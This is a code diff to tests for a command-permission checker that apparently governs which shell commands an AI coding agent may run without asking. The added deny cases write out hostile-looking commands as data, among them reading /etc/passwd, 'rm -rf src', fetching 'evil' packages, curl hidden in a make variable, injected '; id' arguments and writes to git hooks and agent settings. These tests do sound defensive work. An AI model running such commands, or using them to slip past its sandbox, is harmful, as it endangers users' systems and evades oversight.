@@ -33,6 +33,14 @@ const WORK: readonly string[] = [
   'golangci-lint run ./x --fix',
   'timeout 60 make test',
   'just test',
+  'make V=1 -k test',
+  'go run ./cmd/x --flag',
+  'deno run src/a.ts',
+  'python3 manage.py test',
+  'uv run scripts/report.py',
+  'tox -e py',
+  './tool http://localhost:3000/x',
+  'go test -run "^TestA$/^sub$" ./...',
 ];
 
 const OTHER: readonly (readonly [line: string, why: string])[] = [
@@ -82,11 +90,47 @@ const OTHER: readonly (readonly [line: string, why: string])[] = [
   ['docker run x make', 'another machine'],
   ['eslint -c /tmp/x.js src', 'another configuration'],
   ['rubocop -r ./x', 'another file is loaded'],
+  ['./tool -f/etc/passwd', 'a path right behind an option'],
+  ['cmake -S/tmp', 'the same of a build'],
+  ['javac -cp src:/tmp/x A.java', 'a path in a list'],
+  ['./tool https://x.example', 'another machine'],
+  ['./tool me@x.example:y', 'another machine, as scp names it'],
+  ['./linked', 'a link out of the project'],
+  ['./linked.sh', 'a link to a program that somebody else wrote'],
+  ['uv run --with evil pytest', 'another package'],
+  ['npm run env', 'prints the environment'],
+  ['bun run rm -rf src', 'any program of the system'],
+  ['go run example.com/evil@latest', 'another program'],
+  ['go run ./cmd/deploy', 'a program that reaches out'],
+  ['tox -erelease', 'an environment that reaches out'],
+  ['deno run npm:evil', 'another program'],
+  ['deno run -', 'an interpreter that reads its program'],
+  ['deno check https://x.example/y.ts', 'fetches'],
+  ['ruby -S evil', 'a script from elsewhere'],
+  ['make GO="curl x.example"', 'code in a variable'],
+  ['make X!=id', 'code in a variable'],
+  ['make BASH_ENV=./x test', 'a variable that runs other programs'],
+  ['just test "a; id"', 'code in an argument'],
+  ['make install', 'installs for the machine'],
+  ['cmake --build build --target install', 'the same'],
+  ['cmake --build build -- -f x.mk', 'another makefile'],
+  ['bin/rails runner "x()"', 'code in the line'],
+  ['python3 manage.py shell -c "x()"', 'code in the line'],
+  ['scripts/entrypoint.sh rm -rf src', 'a wrapper around another command'],
+  ['python3 - <<EOF\nx()\nEOF', 'a program from a here-document'],
+  ['bash <<EOF\nid\nEOF', 'the same of a shell'],
+  ['bash scripts/a.sh < /etc/passwd', 'a file outside the project'],
+  ['make > ../out', 'writes elsewhere'],
+  ['go build -o .git/hooks/pre-commit .', 'writes a protected file'],
+  ['prettier --write .claude/settings.json', 'writes a protected file'],
+  ['npm --prefix ../x run y', 'another project'],
+  ['alias make=rm; make', 'another program of that name'],
   ['terraform apply', 'changes others use'],
   ['git push --force', 'as under safe'],
 ];
 
 const MISSING = ['node_modules'];
+const LINKS = { '/repo/linked': '/tmp/x', '/repo/linked.sh': '/repo/node_modules/x/y.sh' };
 
 for (const line of WORK)
   test(`develop allows ${line}, and safe asks`, () => {
@@ -96,7 +140,7 @@ for (const line of WORK)
 
 for (const [line, why] of OTHER)
   test(`develop does not allow ${line}: ${why}`, () => {
-    assert.not.equal(decideIn({ preset: 'develop' }, 'Bash', line).decision, 'allow');
+    assert.not.equal(decideIn({ preset: 'develop', links: LINKS }, 'Bash', line).decision, 'allow');
   });
 
 test('a deny or ask rule holds over the preset', () => {
